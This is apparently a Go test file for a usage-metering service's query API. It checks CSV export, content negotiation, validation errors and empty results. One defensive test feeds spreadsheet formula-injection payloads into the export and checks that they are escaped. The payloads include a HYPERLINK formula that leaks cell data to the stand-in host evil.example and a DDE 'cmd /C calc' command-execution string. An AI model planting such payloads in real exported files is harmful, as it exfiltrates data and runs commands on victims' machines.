package query

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/tally-oss/tally/internal/httpapi"
)

func TestUsageCSV(t *testing.T) {
	e := newEnv(t)
	m := e.createMeter(keyAcme, `{"key": "tokens", "event_type": "llm", "aggregation": "SUM", "value_property": "$.v", "group_by": {"model": "$.model"}}`)
	e.insert(
		reading{org: "acme", meter: "tokens", revision: m.Revision, customer: "c1", eventID: "e1", time: at(t, "2024-03-10T04:00:00Z"), value: "0.5", groups: map[string]string{"model": `gpt-4, "large"`}},
		reading{org: "acme", meter: "tokens", revision: m.Revision, customer: "c2", eventID: "e2", time: at(t, "2024-03-10T06:00:00Z"), value: "2", groups: map[string]string{"model": "small"}},
	)
	code, body, header := e.do("GET", "/api/v1/meters/tokens/query?window_size=DAY&window_time_zone=America/New_York&group_by=model&group_by=customer_id"+
		"&from="+url.QueryEscape("2024-03-09T00:00:00-05:00")+"&to="+url.QueryEscape("2024-03-11T00:00:00-04:00"),
		keyAcme, nil, "Accept", "text/csv")
	if code != http.StatusOK || header.Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Fatalf("%d %s %s", code, header.Get("Content-Type"), body)
	}
	want := "window_start,window_end,model,customer_id,value\n" +
		`2024-03-09T00:00:00-05:00,2024-03-10T00:00:00-05:00,"gpt-4, ""large""",c1,0.5` + "\n" +
		"2024-03-10T00:00:00-05:00,2024-03-11T00:00:00-04:00,small,c2,2\n"
	if string(body) != want {
		t.Errorf("CSV\n got %q\nwant %q", body, want)
	}
	// JSON stays the default, and wins when preferred.
	for _, accept := range []string{"", "*/*", "application/json, text/csv;q=0.5"} {
		_, body, header := e.do("GET", "/api/v1/meters/tokens/query?from=2024-03-01T00:00:00Z&to=2024-04-01T00:00:00Z", keyAcme, nil, "Accept", accept)
		if header.Get("Content-Type") != "application/json" {
			t.Errorf("Accept %q: %s %s", accept, header.Get("Content-Type"), body)
		}
	}
}

func TestUsageErrors(t *testing.T) {
	e := newEnv(t, func(c *Config) { c.MaxRows = 2 })
	m := e.createMeter(keyAcme, `{"key": "calls", "event_type": "api", "aggregation": "COUNT"}`)
	for i, c := range []string{"c1", "c2", "c3"} {
		e.insert(reading{org: "acme", meter: "calls", revision: m.Revision, customer: c, eventID: "e", time: at(t, "2024-03-05T10:00:00Z").Add(time.Duration(i) * time.Hour), value: "1"})
	}
	const span = "from=2024-03-05T00:00:00Z&to=2024-03-06T00:00:00Z"
	tests := []struct {
		path     string
		wantCode int
		wantErr  string
		wantMsg  string
	}{
		{"/api/v1/meters/calls/query?window_sise=DAY&" + span, 400, httpapi.CodeValidation, "window_sise: unknown parameter"},
		{"/api/v1/meters/calls/query?window_time_zone=Moon/Base&" + span, 400, httpapi.CodeValidation, `window_time_zone: unknown time zone "Moon/Base"`},
		{"/api/v1/meters/calls/query?group_by=model&" + span, 400, httpapi.CodeValidation, `group_by: meter calls has no group key "model"`},
		{"/api/v1/meters/calls/query?from=%zz", 400, httpapi.CodeBadRequest, "malformed"},
		{"/api/v1/meters/missing/query?" + span, 404, httpapi.CodeNotFound, `meter "missing" not found`},
		{"/api/v1/meters/calls/query?group_by=customer_id&" + span, 400, httpapi.CodeBadRequest, "more than 2 rows"},
		{"/api/v1/meters/calls/query?window_size=HOUR&" + span, 400, httpapi.CodeBadRequest, "more than 2 rows"},
	}
	for _, tt := range tests {
		code, body, _ := e.do("GET", tt.path, keyAcme, nil)
		wantError(t, tt.path, code, body, tt.wantCode, tt.wantErr, tt.wantMsg)
	}
	// Two rows are within the limit.
	wantLines(t, "at the limit", e.query(keyAcme, "calls", span+"&group_by=customer_id&customer_id=c1&customer_id=c3").lines("customer_id"),
		"2024-03-05T00:00:00Z|c1|1", "2024-03-05T00:00:00Z|c3|1")
}

// TestUsageEmpty: no readings is an empty list, never a row of zeros.
func TestUsageEmpty(t *testing.T) {
	e := newEnv(t)
	e.createMeter(keyAcme, `{"key": "tokens", "event_type": "llm", "aggregation": "MAX", "value_property": "$.v"}`)
	for _, params := range []string{"", "window_size=DAY", "group_by=customer_id"} {
		code, body, _ := e.do("GET", "/api/v1/meters/tokens/query?"+params, keyAcme, nil)
		if code != http.StatusOK || !strings.Contains(string(body), `"data":[]`) {
			t.Errorf("%s: %d %s", params, code, body)
		}
	}
}

// TestUsageCSVFormulaInjection: a spreadsheet runs a cell that starts
// with =, +, -, @, a tab or a carriage return as a formula, so group
// values and customer ids (the caller's own text) that start with one are
// written with a leading single quote (OWASP's CSV injection advice).
// Tally's own cells are left as they are: a negative value stays a
// number.
func TestUsageCSVFormulaInjection(t *testing.T) {
	e := newEnv(t)
	m := e.createMeter(keyAcme, `{"key": "balance", "event_type": "b", "aggregation": "SUM", "value_property": "$.v", "group_by": {"note": "$.note"}}`)
	hostile := map[string]string{ // customer id -> group value
		"c1":  `=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
		"+c2": "+1+2",
		"-c3": "-2+3",
		"@c4": "@SUM(1+1)*cmd|' /C calc'!A0",
		"c5":  "\t=1+1",
		"c6":  "\r=1+1",
		"c7":  "plain=text",
	}
	var rows []reading
	for customer, note := range hostile {
		rows = append(rows, reading{org: "acme", meter: "balance", revision: m.Revision, customer: customer, eventID: "e-" + customer,
			time: at(t, "2024-03-10T04:00:00Z"), value: "-5", groups: map[string]string{"note": note}})
	}
	e.insert(rows...)
	code, body, _ := e.do("GET", "/api/v1/meters/balance/query?group_by=customer_id&group_by=note&from=2024-03-01T00:00:00Z&to=2024-04-01T00:00:00Z",
		keyAcme, nil, "Accept", "text/csv")
	if code != http.StatusOK {
		t.Fatalf("%d %s", code, body)
	}
	records, err := csv.NewReader(strings.NewReader(string(body))).ReadAll()
	if err != nil {
		t.Fatalf("%v in %q", err, body)
	}
	got := map[string][]string{}
	for _, r := range records[1:] {
		got[r[2]] = r[3:]
	}
	want := map[string][]string{
		"c1":   {`'=HYPERLINK("http://evil.example/?leak="&A1,"click")`, "-5"},
		"'+c2": {"'+1+2", "-5"},
		"'-c3": {"'-2+3", "-5"},
		"'@c4": {"'@SUM(1+1)*cmd|' /C calc'!A0", "-5"},
		"c5":   {"'\t=1+1", "-5"},
		"c6":   {"'\r=1+1", "-5"},
		"c7":   {"plain=text", "-5"},
	}
	if len(got) != len(want) {
		t.Errorf("CSV rows %q, want %d", records, len(want))
	}
	for customer, cells := range want {
		if g := got[customer]; len(g) != 2 || g[0] != cells[0] || g[1] != cells[1] {
			t.Errorf("customer %q: cells %q, want %q", customer, g, cells)
		}
	}
}
